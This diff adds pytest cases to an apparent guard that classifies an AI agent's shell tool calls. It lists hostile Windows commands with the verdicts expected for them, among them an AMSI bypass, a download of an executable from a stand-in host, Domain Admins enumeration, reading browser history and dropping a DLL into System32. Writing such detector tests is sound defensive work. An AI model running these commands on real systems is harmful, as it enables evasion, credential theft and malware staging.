@@ -437,6 +437,62 @@ def test_everyday_commands_near_the_tradecraft_rules_are_allowed(command: str) -
     assert result.verdict == "allow", result
 
 
+@pytest.mark.parametrize(
+    ("tool", "command", "verdict", "category"),
+    [
+        ("PowerShell", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "deny", "persistence_evasion"),
+        ("PowerShell", "(New-Object System.Net.WebClient).DownloadFile('https://x.example.com/a.exe', \"$env:TEMP\\a.exe\")", "ask", "malware"),
+        ("PowerShell", "Start-Process powershell -Verb RunAs", "ask", "persistence_evasion"),
+        ("PowerShell", "Invoke-Command -ComputerName srv01 -ScriptBlock { whoami }", "ask", "network_attack"),
+        ("PowerShell", "Get-ADUser -Filter * -Properties *", "ask", "network_attack"),
+        ("PowerShell", "Get-CimInstance -Namespace root/SecurityCenter2 -ClassName AntivirusProduct", "ask", "persistence_evasion"),
+        ("PowerShell", "Get-Content \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\History\"", "ask", "credential_access"),
+        ("PowerShell", "Copy-Item evil.dll -Destination C:\\Windows\\System32", "ask", "persistence_evasion"),
+        ("PowerShell", "Get-Clipboard | Out-File $env:TEMP\\c.txt", "ask", "exfiltration"),
+        ("cmd", "net group \"Domain Admins\" /domain", "ask", "network_attack"),
+        ("cmd", "net share", "ask", "network_attack"),
+        ("cmd", "sc.exe stop spooler", "ask", "denial_of_service"),
+        ("cmd", "copy %windir%\\System32\\cmd.exe %APPDATA%\\updater.exe", "ask", "persistence_evasion"),
+        ("cmd", "where /R C:\\Users\\ places.sqlite", "ask", "credential_access"),
+        ("cmd", "pcalua.exe -a calc.exe", "ask", "malware"),
+        ("cmd", "wmic logicaldisk get deviceid, freespace", "ask", "network_attack"),
+    ],
+)  # fmt: skip
+def test_windows_scripts_are_read_for_what_they_do(
+    tool: str, command: str, verdict: str, category: str
+) -> None:
+    result = assess_tool_call(tool, {"command": command}, classifier=QUIET)
+    assert result.verdict == verdict, result
+    assert category in result.categories, result
+
+
+@pytest.mark.parametrize(
+    ("tool", "command"),
+    [
+        ("PowerShell", "Stop-Process -Name node -Force"),
+        ("PowerShell", "Remove-Item -Recurse -Force .\\bin, .\\obj, .\\logs"),
+        ("PowerShell", "Invoke-WebRequest https://api.github.com/repos/octo/app"),
+        ("PowerShell", "Select-String -Path *.cs -Pattern TODO"),
+        ("PowerShell", "dotnet test --no-build"),
+        ("cmd", "msbuild App.sln /p:Configuration=Release"),
+        ("cmd", "taskkill /f /im node.exe"),
+        ("cmd", "xcopy /E /I src dist"),
+        ("cmd", "csc Program.cs"),
+    ],
+)
+def test_everyday_windows_commands_are_allowed(tool: str, command: str) -> None:
+    result = assess_tool_call(tool, {"command": command}, classifier=QUIET)
+    assert result.verdict == "allow", result
+
+
+def test_every_windows_indicator_has_its_trigger_words() -> None:
+    from convguard.agent_rules import _tradecraft
+
+    assert len(_tradecraft._WINDOWS_TRIGGERS) == len(_tradecraft.WINDOWS_INDICATORS)
+    # each indicator still fires on a script containing one of its triggers and its pattern
+    assert _tradecraft.windows_text_findings("NET SHARE")[0].reason.startswith("lists shares")
+
+
 def test_a_lone_dollar_ends_where_it_stands() -> None:
     assert [c.argv for c in parse_script('pkill ^cron$\necho "cost: $"; ls').commands] == [
         ("pkill", "^cron$"),
